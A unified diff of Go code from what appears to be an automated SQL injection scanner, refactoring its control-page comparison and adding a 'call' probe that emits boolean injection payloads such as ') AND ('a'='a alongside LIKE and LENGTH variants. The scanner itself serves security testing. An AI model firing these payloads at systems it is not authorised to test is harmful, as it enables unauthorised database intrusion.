@@ -165,30 +165,26 @@ func (s *prober) breaks() (changed, differs, done bool, err error) {
 			}
 		}
 	}
-	control, err := s.missing()
-	if err != nil {
+	if s.control, err = s.Ask(s.Other()); err != nil {
 		return false, true, false, err
 	}
-	if control.Equal(s.Page(s.broken, s.Breaking())) {
-		if s.At.Names() { // as a parameter that is not there: it is read by its name
-			s.Read()
+	same := func() bool { return s.missing().Equal(s.Page(s.broken, s.Breaking())) }
+	if !same() { // what changes by itself may make the difference
+		if usual, err := s.isUsual(s.broken, s.Breaking()); err != nil || usual {
+			return false, false, false, err
 		}
-		return false, true, false, nil
 	}
-	usual, err := s.isUsual(s.broken, s.Breaking())
-	return !usual, !usual, false, err
+	if !same() {
+		return true, true, false, nil
+	}
+	if s.At.Names() { // as a parameter that is not there: it is read by its name
+		s.Read()
+	}
+	return false, true, false, nil
 }
 
 // missing is the page of a value that names nothing.
-func (s *prober) missing() (*attack.Page, error) {
-	if s.control == nil {
-		var err error
-		if s.control, err = s.Ask(s.Other()); err != nil {
-			return nil, err
-		}
-	}
-	return s.Page(s.control, s.Other()), nil
-}
+func (s *prober) missing() *attack.Page { return s.Page(s.control, s.Other()) }
 
 // failed reports whether the application broke at an answer, and not at the first.
 func (s *prober) failed(resp *message.Response) bool {
@@ -337,7 +333,7 @@ func (s *prober) names(resp *message.Response, f form) bool {
 // narrow asks conditions that are added to the value with AND: true ones leave the page
 // as it is. They tell something only where another value leads to another page.
 func (s *prober) narrow() (found bool, err error) {
-	if control, err := s.missing(); err != nil || control.Equal(s.base.Page()) {
+	if s.control, err = s.Ask(s.Other()); err != nil || s.missing().Equal(s.base.Page()) {
 		return false, err
 	}
 	v := s.value
@@ -396,14 +392,18 @@ func (s *prober) questions() []question {
 		a, b := s.Random(4), s.Random(4)
 		return v + "%' AND '" + a + "' LIKE '" + a, v + "%' AND '" + a + "' LIKE '" + b
 	}}
-	kinds := []string{"'", "like", `"`, "list", "number"}
+	of["call"] = question{"call", func() (yes, no string) { // of a function, or a list
+		a, b := s.Random(4), s.Random(4)
+		return v + "') AND ('" + a + "'='" + a, v + "') AND ('" + a + "'='" + b
+	}}
+	kinds := []string{"'", "like", `"`, "list", "number", "call"}
 	ordered := orders.MatchString(s.At.Name)
 	if n, err := strconv.Atoi(v); err == nil && n <= 1e12 && !ordered {
 		of["length"] = question{"length", func() (yes, no string) {
 			k := s.Number(3, 6)
 			return fmt.Sprintf("%d-LENGTH('%s')", n+k, s.Random(k)), fmt.Sprintf("%d-LENGTH('%s')", n+k, s.Random(k+1))
 		}}
-		kinds = []string{"number", "length", "'", "like", `"`, "list"}
+		kinds = []string{"number", "length", "'", "like", `"`, "list", "call"}
 	}
 	if ordered {
 		kinds = []string{"list", "'", "like", `"`, "number"}
